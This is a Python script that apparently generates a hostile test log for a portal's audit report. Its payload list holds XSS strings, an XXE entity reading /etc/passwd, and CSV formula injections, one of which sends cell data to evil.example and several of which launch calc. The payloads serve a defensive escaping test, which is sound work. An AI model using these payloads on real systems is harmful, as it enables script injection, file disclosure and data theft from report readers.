#!/usr/bin/env python3
"""Writes Tests/Hostile/hostile.log: one week of October 2026 whose account names, role,
profile, remote action and hierarchy names and free texts are attacks on the report's
readers.
Payloads that carry script would, if they ran, set document.title to PWNED and add a
<pwned-marker> element; the others attack the XML (]]>, DOCTYPE, entities) and the CSV
(formula starters). The file is committed; rerun this after changing it."""
import os

MARK = "document.title='PWNED';document.body.appendChild(document.createElement('pwned-marker'))"
PAYLOADS = [
    # HTML, element and attribute contexts
    f'"><img src=x onerror="{MARK}">',
    f"'><img src=x onerror='{MARK}'>",
    f"<script>{MARK}</script>",
    f"</style><script>{MARK}</script>",
    f"</title><script>{MARK}</script>",
    f"<svg onload=\"{MARK}\"><circle r=9></circle></svg>",
    f"<a href=\"javascript:{MARK}\">click</a>",
    f"javascript:{MARK}",
    f"<iframe srcdoc=\"<script>{MARK}</script>\"></iframe>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{MARK}\">",
    f"x\" style=\"background:url(javascript:{MARK})",
    "{{#rule}}{{/rule}}{{{html}}}",
    # XML breakers
    "]]></report><injected/><![CDATA[",
    "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>&xxe;",
    "&entity; &amp; &#0; &#x1F; &lt;already&gt;",
    # characters XML 1.0 forbids, and direction overrides
    "nul\x00soh\x01us\x1fdel\x7fnel\u0085",
    "nonchar\ufffe\uffff",
    "\u202eevil.exe\u202c and \u2066isolate\u2069 \u200fRLM",
    # combining marks after markup characters (one grapheme cluster, still markup)
    f"<\u0338script>\"\u0301onmouseover=\"{MARK}\"",
    # CSV formula starters
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    # very long
    "L" * 5000 + "<script>" + MARK + "</script>",
]

def user_safe(p):
    # The header's user field cannot hold | [ ] (they delimit it); the text can hold anything.
    return all(c not in p for c in "|[]\n\r")

lines = []
t = 0
def stamp():
    global t
    t += 37
    day = 22 + t // 86400
    s = t % 86400
    return f"2026-10-{day:02d}T{s // 3600:02d}:{s // 60 % 60:02d}:{s % 60:02d}Z portal01 nxportal[1022]:"

for i, p in enumerate(PAYLOADS):
    actor = p if user_safe(p) else f"actor{i}"
    # Night-time changes and self-modification make findings that name the payload too.
    lines += [
        f"{stamp()} [Portal|USER|20201|{actor}] User created {p} is created",
        f"{stamp()} [Portal|USER|20206|{actor}] Role {p} is added",
        f"{stamp()} [Portal|USER|20209|{actor}] Added profile {p} roles: {p}",
        f"{stamp()} [Portal|USER|20203|{actor}] User updated {actor} is created",
        f"{stamp()} [Portal|EXECUTION|21003|{actor}] Remote action {p} executed through the API v2 on 3 devices",
        f"{stamp()} [Portal|ADMIN|20501|{actor}] Hierarchy {p} is added",
        f"{stamp()} [Portal|OTHER|29999|{actor}] {p}",
        f"{stamp()} engine01 nxengine[7]: [Engine-01|Communication|10009|{actor}] Finder account creation:[{p}]",
    ]
    if user_safe(p):
        lines += [f"{stamp()} [Portal|LOGIN|20103|unknown] User {p} failed login attempts - wrong password" for _ in range(7)]
        lines.append(f"{stamp()} [Portal|LOGIN|20104|system] User {p} is locked")
    lines.append(f"{p} (a line without a timestamp)")

# Keep every day covered so the report is about the payloads, not about gaps.
for day in range(22, 29):
    for hour in range(0, 24, 6):
        lines.append(f"2026-10-{day}T{hour:02d}:00:00Z portal01 nxportal[1]: [Portal|LOGIN|20101|admin] User admin logged with session id {day}{hour}")

here = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(here, "hostile.log"), "wb") as f:
    f.write(("\n".join(lines) + "\n").encode("utf-8", "surrogatepass"))
